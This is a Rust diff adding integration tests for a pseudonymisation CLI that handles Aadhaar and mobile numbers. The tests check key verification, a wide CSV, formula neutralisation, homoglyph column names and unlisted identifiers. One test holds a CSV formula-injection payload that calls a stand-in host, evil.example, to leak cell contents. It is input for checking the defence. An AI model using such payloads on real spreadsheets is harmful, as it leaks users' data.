@@ -406,3 +406,353 @@ fn filter_applies_the_permits_transforms_through_the_policy() {
     assert!(String::from_utf8_lossy(&o.stderr).contains("transform_failed"));
     assert!(!d.join("t.jsonl").exists());
 }
+
+/// The stable code of the JSON error object on stderr.
+fn err_code(o: &Output) -> String {
+    let err = String::from_utf8_lossy(&o.stderr);
+    let line = err
+        .lines()
+        .find(|l| l.starts_with("{\"code\""))
+        .unwrap_or_else(|| panic!("no error object in {err}"));
+    let v: serde_json::Value = serde_json::from_str(line).unwrap();
+    v["code"].as_str().unwrap().to_owned()
+}
+
+fn pseudo_args<'a>(policy: &'a str, key: &'a str, input: &'a str, out: &'a str) -> Vec<&'a str> {
+    vec![
+        "pseudonymise",
+        "--policy",
+        policy,
+        "--key",
+        key,
+        "--in",
+        input,
+        "--out",
+        out,
+    ]
+}
+
+#[test]
+fn ff1_reversal_with_a_wrong_key_or_domain_is_refused_by_the_key_check() {
+    let d = dir("kcv");
+    assert!(run(&["key", "master", "--out", "other.key"], &d)
+        .status
+        .success());
+    std::fs::write(
+        d.join("other-domain.json"),
+        std::fs::read_to_string(d.join("p.json"))
+            .unwrap()
+            .replace("tn.health/research", "tn.health/elsewhere"),
+    )
+    .unwrap();
+    let a = aadhaar(11);
+    std::fs::write(d.join("in.csv"), format!("aadhaar,ward\n{a},7\n")).unwrap();
+    let o = run(&pseudo_args("p.json", "m.key", "in.csv", "out.csv"), &d);
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    let kcv: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(d.join("out.csv.kcv")).unwrap()).unwrap();
+    assert_eq!(kcv["v"], 1);
+    assert_eq!(kcv["domain"], "tn.health/research");
+    assert_eq!(kcv["kcv"].as_str().unwrap().len(), 16);
+    let master = std::fs::read_to_string(d.join("m.key")).unwrap();
+    assert!(!master.trim().contains(kcv["kcv"].as_str().unwrap()));
+
+    // The attack: reverse with another master key, or under another domain.
+    for (policy, key) in [("p.json", "other.key"), ("other-domain.json", "m.key")] {
+        let rev = [
+            &pseudo_args(policy, key, "out.csv", "back.csv")[..],
+            &["--reverse"],
+        ]
+        .concat();
+        let o = run(&rev, &d);
+        assert_eq!(o.status.code(), Some(2), "{policy} {key}");
+        assert_eq!(err_code(&o), "pseudo_key_check_mismatch");
+        assert!(!d.join("back.csv").exists(), "nothing reversed");
+    }
+    // The right key and domain reverse.
+    let rev = [
+        &pseudo_args("p.json", "m.key", "out.csv", "back.csv")[..],
+        &["--reverse"],
+    ]
+    .concat();
+    let o = run(&rev, &d);
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    assert!(std::fs::read_to_string(d.join("back.csv"))
+        .unwrap()
+        .contains(&a));
+    std::fs::remove_file(d.join("back.csv")).unwrap();
+
+    // Without the key check file: refused, unless the caller opts out explicitly.
+    std::fs::rename(d.join("out.csv.kcv"), d.join("saved.kcv")).unwrap();
+    let o = run(&rev, &d);
+    assert_eq!(o.status.code(), Some(2));
+    assert_eq!(err_code(&o), "pseudo_key_check_missing");
+    assert!(!d.join("back.csv").exists());
+    let o = run(&[&rev[..], &["--allow-missing-key-check"]].concat(), &d);
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    assert!(String::from_utf8_lossy(&o.stderr).contains("warning: no key check file"));
+
+    // A tampered or malformed check file is refused.
+    std::fs::write(d.join("out.csv.kcv"), "{\"v\":1}").unwrap();
+    let o = run(&rev, &d);
+    assert_eq!(err_code(&o), "pseudo_key_check_malformed");
+
+    // JSON lines carry the same check.
+    std::fs::write(d.join("in.jsonl"), format!("{{\"aadhaar\":\"{a}\"}}\n")).unwrap();
+    let o = run(&pseudo_args("p.json", "m.key", "in.jsonl", "out.jsonl"), &d);
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    assert!(d.join("out.jsonl.kcv").exists());
+    let o = run(
+        &[
+            &pseudo_args("p.json", "other.key", "out.jsonl", "back.jsonl")[..],
+            &["--reverse"],
+        ]
+        .concat(),
+        &d,
+    );
+    assert_eq!(err_code(&o), "pseudo_key_check_mismatch");
+    assert!(!d.join("back.jsonl").exists());
+}
+
+#[test]
+fn wide_csv_with_16k_columns_round_trips_through_the_cli() {
+    // A note on cost: header planning is a hash lookup per column, once per file; see
+    // `cargo bench -p consentry --bench pseudo -- csv_plan_16k`.
+    const COLS: usize = 16_384;
+    let d = dir("wide");
+    std::fs::write(
+        d.join("wide.json"),
+        r#"{"domain":"d","unlisted":"keep","fields":{
+            "c7":{"type":"aadhaar","transform":"ff1"},
+            "c16383":{"type":"mobile","transform":"token"},
+            "c3":{"type":"text","transform":"drop"}}}"#,
+    )
+    .unwrap();
+    let header: Vec<String> = (0..COLS).map(|i| format!("c{i}")).collect();
+    let mut csv = header.join(",") + "\n";
+    for r in 0..20u64 {
+        let row: Vec<String> = (0..COLS)
+            .map(|i| match i {
+                7 => aadhaar(r),
+                16_383 => format!("98765{r:05}"),
+                _ => format!("r{r}c{i}"),
+            })
+            .collect();
+        csv.push_str(&row.join(","));
+        csv.push('\n');
+    }
+    std::fs::write(d.join("wide.csv"), &csv).unwrap();
+    let o = run(
+        &pseudo_args("wide.json", "m.key", "wide.csv", "out.csv"),
+        &d,
+    );
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    let out = std::fs::read_to_string(d.join("out.csv")).unwrap();
+    let lines: Vec<&str> = out.lines().collect();
+    assert_eq!(lines.len(), 21);
+    let head: Vec<&str> = lines[0].split(',').collect();
+    assert_eq!(head.len(), COLS - 1);
+    assert!(!head.contains(&"c3"));
+    for (r, l) in lines[1..].iter().enumerate() {
+        let cells: Vec<&str> = l.split(',').collect();
+        assert_eq!(cells.len(), COLS - 1);
+        assert_eq!(cells[3], format!("r{r}c4"));
+        assert_ne!(cells[6], aadhaar(r as u64));
+        assert!(cells[COLS - 2].starts_with("t1."));
+    }
+    let o = run(
+        &[
+            &pseudo_args("wide.json", "m.key", "out.csv", "back.csv")[..],
+            &["--reverse"],
+        ]
+        .concat(),
+        &d,
+    );
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    let back = std::fs::read_to_string(d.join("back.csv")).unwrap();
+    for (r, l) in back.lines().skip(1).enumerate() {
+        let cells: Vec<&str> = l.split(',').collect();
+        assert_eq!(cells[6], aadhaar(r as u64));
+        assert_eq!(cells[COLS - 2], format!("+9198765{r:05}"));
+    }
+}
+
+#[test]
+fn csv_safe_neutralises_formula_cells_and_negative_buckets_are_unambiguous() {
+    let d = dir("csvsafe");
+    std::fs::write(
+        d.join("n.json"),
+        r#"{"domain":"d","unlisted":"keep","fields":{
+            "score":{"type":"number","transform":"generalise","params":{"bucket":10}},
+            "mobile":{"type":"mobile","transform":"ff1"}}}"#,
+    )
+    .unwrap();
+    let attack = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    std::fs::write(
+        d.join("in.csv"),
+        format!(
+            "score,mobile,note,=cmd\n-3,9876543210,\"{}\",+1\n37,,@SUM(A1),\"\tx\"\n5,,-2+3,\"\rx\"\n",
+            attack.replace('"', "\"\"")
+        ),
+    )
+    .unwrap();
+    // Without --csv-safe: cells pass as they are; the negative bucket is `-10..-1`.
+    let o = run(&pseudo_args("n.json", "m.key", "in.csv", "plain.csv"), &d);
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    let read = |f: &str| -> Vec<Vec<String>> {
+        csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_path(d.join(f))
+            .unwrap()
+            .records()
+            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+            .collect()
+    };
+    let plain = read("plain.csv");
+    assert_eq!(plain[1][0], "-10..-1");
+    assert_eq!(plain[2][0], "30-39", "positive buckets unchanged");
+    assert_eq!(plain[1][2], attack);
+    // With --csv-safe, no cell starts with a formula character.
+    let o = run(
+        &[
+            &pseudo_args("n.json", "m.key", "in.csv", "safe.csv")[..],
+            &["--csv-safe"],
+        ]
+        .concat(),
+        &d,
+    );
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    let safe = read("safe.csv");
+    assert_eq!(safe[0], ["score", "mobile", "note", "'=cmd"]);
+    assert_eq!(safe[1][0], "'-10..-1");
+    assert!(safe[1][1].starts_with("'+91"), "{:?}", safe[1]);
+    assert_eq!(safe[1][2], format!("'{attack}"));
+    assert_eq!(safe[1][3], "'+1");
+    assert_eq!(safe[2], ["30-39", "", "'@SUM(A1)", "'\tx"]);
+    assert_eq!(safe[3], ["0-9", "", "'-2+3", "'\rx"]);
+    for row in &safe {
+        for cell in row {
+            assert!(
+                !consentry::pseudo::is_formula_like(cell),
+                "{cell:?} is still formula-like"
+            );
+        }
+    }
+    // JSON lines are not spreadsheets: the flag is refused there.
+    std::fs::write(d.join("in.jsonl"), "{\"score\":1}\n").unwrap();
+    let o = run(
+        &[
+            &pseudo_args("n.json", "m.key", "in.jsonl", "o.jsonl")[..],
+            &["--csv-safe"],
+        ]
+        .concat(),
+        &d,
+    );
+    assert_eq!(o.status.code(), Some(2));
+    assert_eq!(err_code(&o), "cli_usage");
+}
+
+#[test]
+fn near_miss_column_names_are_refused_unless_folded() {
+    let d = dir("nearmiss");
+    let a = aadhaar(21);
+    // `p.json` keeps unlisted columns and lists `aadhaar` (ff1) and `name`.
+    for col in ["Aadhaar", "aadhaar ", "aad\u{200B}haar", "\u{0430}adhaar"] {
+        std::fs::write(d.join("in.csv"), format!("\"{col}\",ward\n{a},7\n")).unwrap();
+        let o = run(&pseudo_args("p.json", "m.key", "in.csv", "out.csv"), &d);
+        assert_eq!(o.status.code(), Some(2), "{col:?}");
+        assert_eq!(err_code(&o), "pseudo_column_near_miss", "{col:?}");
+        assert!(!String::from_utf8_lossy(&o.stderr).contains(&a));
+        assert!(
+            !d.join("out.csv").exists(),
+            "the value never leaves untouched"
+        );
+    }
+    let o = run(
+        &[
+            &pseudo_args("p.json", "m.key", "in.csv", "out.csv")[..],
+            &["--fold-column-names"],
+        ]
+        .concat(),
+        &d,
+    );
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    let out = std::fs::read_to_string(d.join("out.csv")).unwrap();
+    assert!(!out.contains(&a), "{out}");
+    assert!(String::from_utf8_lossy(&o.stderr).contains("1 field value(s) transformed"));
+    // The folded column reverses too.
+    let o = run(
+        &[
+            &pseudo_args("p.json", "m.key", "out.csv", "back.csv")[..],
+            &["--reverse", "--fold-column-names"],
+        ]
+        .concat(),
+        &d,
+    );
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    assert!(std::fs::read_to_string(d.join("back.csv"))
+        .unwrap()
+        .contains(&a));
+
+    // JSON lines: a near-miss key is refused the same way, under every --on-error.
+    std::fs::write(
+        d.join("in.jsonl"),
+        format!("{{\"Aadhaar\":\"{a}\",\"ward\":7}}\n"),
+    )
+    .unwrap();
+    let o = run(&pseudo_args("p.json", "m.key", "in.jsonl", "o.jsonl"), &d);
+    assert_eq!(o.status.code(), Some(2));
+    assert_eq!(err_code(&o), "pseudo_column_near_miss");
+    assert!(!d.join("o.jsonl").exists());
+    for mode in ["skip-row", "null-field"] {
+        let o = run(
+            &[
+                &pseudo_args("p.json", "m.key", "in.jsonl", "o.jsonl")[..],
+                &["--on-error", mode],
+            ]
+            .concat(),
+            &d,
+        );
+        assert_eq!(o.status.code(), Some(1), "{mode}");
+        let out = std::fs::read_to_string(d.join("o.jsonl")).unwrap();
+        assert!(!out.contains(&a), "{mode}: {out}");
+        assert!(!String::from_utf8_lossy(&o.stderr).contains(&a));
+    }
+}
+
+#[test]
+fn unlisted_columns_holding_aadhaar_numbers_are_reported_or_refused() {
+    let d = dir("unlisted");
+    let (a, b) = (aadhaar(31), aadhaar(32));
+    std::fs::write(
+        d.join("in.csv"),
+        format!("aadhaar,ref,ward\n{a},{b},7\n{a},\"seen {b} at desk\",8\n{a},{SECRET},9\n"),
+    )
+    .unwrap();
+    let o = run(&pseudo_args("p.json", "m.key", "in.csv", "out.csv"), &d);
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    let err = String::from_utf8_lossy(&o.stderr);
+    let warning: serde_json::Value = serde_json::from_str(
+        err.lines()
+            .find(|l| l.contains("pseudo_unlisted_identifier"))
+            .unwrap_or_else(|| panic!("no warning in {err}")),
+    )
+    .unwrap();
+    assert_eq!(warning["column"], "ref");
+    assert_eq!(warning["count"], 2, "the invalid number is not counted");
+    assert!(!err.contains(&b) && !err.contains(&a) && !err.contains(SECRET));
+
+    std::fs::remove_file(d.join("out.csv")).unwrap();
+    let o = run(
+        &[
+            &pseudo_args("p.json", "m.key", "in.csv", "out.csv")[..],
+            &["--strict-unlisted"],
+        ]
+        .concat(),
+        &d,
+    );
+    assert_eq!(o.status.code(), Some(2));
+    assert_eq!(err_code(&o), "pseudo_unlisted_identifier");
+    assert!(!String::from_utf8_lossy(&o.stderr).contains(&b));
+    assert!(!d.join("out.csv").exists(), "no output");
+}
